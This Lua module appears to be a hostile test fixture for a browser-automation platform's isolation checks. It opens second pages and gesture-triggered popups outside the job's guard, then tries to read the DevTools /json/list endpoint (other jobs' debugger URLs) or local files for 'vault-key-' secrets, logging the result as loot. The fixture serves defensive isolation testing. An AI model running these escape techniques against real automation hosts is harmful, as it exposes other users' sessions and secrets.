-- Hostile: opens pages the job's guard was not set on (a second page made
-- with Target.createTarget, a popup of window.open) and from there tries
-- to read the DevTools endpoint's /json/list (every job's targets) with
-- Network.getResponseBody, or a local file.  account.mode picks the path,
-- account.devtools_port and account.path are the targets.
local app = { name = "hostile-pages" }
local loot = "nothing"

local function devtools(a)
  return "http://" .. (a.host or "127.0.0.1") .. ":" .. a.devtools_port .. "/json/list"
end

-- On session sid: the page fetches url (opaque, no-cors), the script reads
-- the body of whatever finished loading.
local function fetch_and_read(sid, url, how)
  cdp.send("Network.enable", {}, { session = sid })
  local js
  if how == "iframe" then
    js = "var f = document.createElement('iframe'); f.src = '" .. url ..
      "'; document.body.appendChild(f); 1"
  elseif how == "navigate" then
    js = "setTimeout(() => { location.href = '" .. url .. "' }, 0); 1"
  else
    js = "fetch('" .. url .. "', {mode:'no-cors'}).catch(() => 0); 1"
  end
  cdp.send("Runtime.evaluate", { expression = js }, { session = sid })
  for _ = 1, 20 do
    local ok0, ev = pcall(cdp.wait_event, "Network.loadingFinished", 3000, sid)
    if not ok0 or not ev then break end
    local ok, r = pcall(cdp.send, "Network.getResponseBody", { requestId = ev.requestId },
      { session = sid })
    if ok and r.body and (r.body:find("webSocketDebuggerUrl", 1, true) or
        r.body:find("vault-key-", 1, true)) then
      return r.body:gsub("%s+", " "):sub(1, 200)
    end
  end
  local ok, r = pcall(cdp.send, "Runtime.evaluate", { expression =
    "document.body ? document.body.innerText : ''", returnByValue = true }, { session = sid })
  if ok and r.result and type(r.result.value) == "string" and
      (r.result.value:find("webSocketDebuggerUrl", 1, true) or r.result.value:find("vault-key-", 1, true)) then
    return r.result.value:sub(1, 200)
  end
  return "nothing"
end

-- A second page in the job's own context, then a session on it.
local function second_page(url)
  local t = cdp.send("Target.createTarget", { url = url })
  local s = cdp.send("Target.attachToTarget", { targetId = t.targetId, flatten = true })
  clock.sleep(700)
  return s.sessionId
end

-- A popup opened by the page itself (a user gesture, so no popup blocker).
local function popup(page, url)
  local before = {}
  for _, t in ipairs(cdp.send("Target.getTargets").targetInfos) do before[t.targetId] = true end
  page:send("Runtime.evaluate", { expression = "window.open('" .. url .. "'); 1", userGesture = true })
  for _ = 1, 30 do
    for _, t in ipairs(cdp.send("Target.getTargets").targetInfos) do
      if not before[t.targetId] and t.type == "page" then
        local s = cdp.send("Target.attachToTarget", { targetId = t.targetId, flatten = true })
        clock.sleep(500)
        return s.sessionId, t.url
      end
    end
    clock.sleep(100)
  end
  error("no popup opened")
end

local ATTACKS = {
  second_page_fetch = function(page, a)
    return fetch_and_read(second_page(a.base_url .. "/"), devtools(a))
  end,
  second_page_iframe = function(page, a)
    return fetch_and_read(second_page(a.base_url .. "/"), devtools(a), "iframe")
  end,
  second_page_file = function(page, a)
    return fetch_and_read(second_page("about:blank"), "file://" .. a.path, "navigate")
  end,
  popup_fetch = function(page, a)
    page:navigate(a.base_url .. "/")
    return fetch_and_read(popup(page, a.base_url .. "/"), devtools(a))
  end,
  popup_iframe = function(page, a)
    page:navigate(a.base_url .. "/")
    return fetch_and_read(popup(page, a.base_url .. "/"), devtools(a), "iframe")
  end,
  -- the popup opens the endpoint itself: its first load
  popup_direct = function(page, a)
    page:navigate(a.base_url .. "/")
    local sid = popup(page, devtools(a))
    local ok, r = pcall(cdp.send, "Runtime.evaluate", { expression =
      "document.body ? document.body.innerText : ''", returnByValue = true }, { session = sid })
    return ok and r.result and tostring(r.result.value):sub(1, 200) or "nothing"
  end,
  popup_file = function(page, a)
    page:navigate(a.base_url .. "/")
    return fetch_and_read(popup(page, a.base_url .. "/"), "file://" .. a.path, "navigate")
  end,
}

function app.login(page, account)
  local attack = ATTACKS[account.mode]
  if not attack then error("unknown mode " .. tostring(account.mode)) end
  -- a refusal raised at the script is still an attack that failed: the
  -- test reads the job's outcome
  local ok, r = pcall(attack, page, account)
  loot = ok and r or ("refused: " .. tostring(type(r) == "table" and r.message or r))
end

function app.list_users(page)
  log.warn("loot:" .. tostring(loot))
  return { { email = "loot@isolation.test", roles = {} } }
end

function app.invite() end
function app.update() end
function app.remove() end
return app
